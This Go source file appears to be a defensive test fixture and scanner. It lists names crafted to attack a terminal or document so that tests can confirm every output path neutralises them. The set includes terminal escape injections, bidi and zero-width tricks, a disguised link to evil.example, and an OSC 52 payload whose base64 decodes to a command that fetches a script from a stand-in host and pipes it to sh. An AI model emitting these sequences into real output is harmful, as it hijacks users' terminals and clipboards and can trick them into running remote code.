// Package hostile holds names crafted to attack a terminal or a document, and
// a scanner that finds anything of them that got through. Tests of every
// output path share them, so a new path is one more line in a table.
package hostile

import (
	"fmt"
	"strings"
	"unicode/utf8"

	"github.com/ringfence/ringfence/checklist/safetext"
)

// Names is the hostile set: each would change the terminal, the clipboard or
// the way text reads if it were written out as it is.
var Names = []string{
	"Title \x1b]0;pwned-title\x07Smith",                         // OSC 0: window title, BEL-terminated
	"Title2 \x1b]2;pwned-title\x1b\\Jones",                      // OSC 2: window title, ST-terminated
	"Clip \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",       // OSC 52: write the clipboard
	"\x1b]8;;https://evil.example/\x1b\\Click me\x1b]8;;\x1b\\", // OSC 8: a disguised link
	"Clear \x1b[2J\x1b[H Screen",                                // CSI: clear the screen, cursor home
	"Colour \x1b[5;35;41mLOUD\x1b[0m",                           // SGR colours from data
	"C1 \u009b2J csi",                                           // C1 CSI as a character
	"Raw \x9b31m byte",                                          // C1 CSI as a lone byte (not UTF-8)
	"Bell \a\a\a ringing",                                       // BEL
	"Nul \x00 and DEL \x7f",                                     // NUL and DEL
	"Line\nbreak\rcarriage",                                     // a line break that fakes a new line of output
	"Mallory \u202egnp.exe",                                     // right-to-left override
	"Eve \u2066isolate\u2069 \u202aembed\u202c",                 // bidi isolates and embeddings
	"Ad\u200dmin\u200b \ufeffzero\u2060width",                   // zero-width joiner, space, BOM, word joiner
	"Para\u2028graph\u2029sep",                                  // line and paragraph separators
	"Long " + strings.Repeat("x", 5000) + "\x1b]2;late\x07",     // a very long line hiding a title change at the end
}

// Safe is legitimate text that must come out exactly as it went in.
var Safe = []string{
	"Zoë Ward", "Siobhán Ní Bhriain", "Łukasz Wójcik", "Declan Ó'Brien",
	"王小明", "محمد العلي", "Ana-María O’Neill", "Émile Dubois",
}

// smuggledSGR is the colour sequence the hostile set carries. A screen draws
// colours of its own, so Find cannot refuse every colour sequence there; it
// refuses this one, which no style of the app uses.
const smuggledSGR = "\x1b[5;35;41m"

// Find returns a description of the first character in out that should never
// have been written, or "" if there is none. With sgr set, "ESC [ … m" colour
// sequences are allowed, as the app draws with them, except the one the
// hostile set smuggles in.
func Find(out string, sgr bool) string {
	for i := 0; i < len(out); {
		r, size := utf8.DecodeRuneInString(out[i:])
		switch {
		case r == utf8.RuneError && size <= 1:
			return at(out, i, fmt.Sprintf("byte 0x%02X that is not UTF-8", out[i]))
		case r == 0x1b && sgr:
			n := sgrLength(out[i:])
			if n == 0 || strings.HasPrefix(out[i:], smuggledSGR) {
				return at(out, i, "an escape sequence")
			}
			i += n
			continue
		case r == '\n' || r == '\t':
		case safetext.Unsafe(r):
			return at(out, i, fmt.Sprintf("U+%04X", r))
		}
		i += size
	}
	return ""
}

// sgrLength is the length of the colour (SGR) sequence at the start of s, or
// 0 if there is none.
func sgrLength(s string) int {
	if !strings.HasPrefix(s, "\x1b[") {
		return 0
	}
	for i := 2; i < len(s); i++ {
		switch c := s[i]; {
		case c == 'm':
			return i + 1
		case c >= '0' && c <= '9', c == ';', c == ':':
		default:
			return 0
		}
	}
	return 0
}

func at(out string, i int, what string) string {
	from, to := max(i-30, 0), min(i+30, len(out))
	return fmt.Sprintf("%s at byte %d: %q", what, i, out[from:to])
}
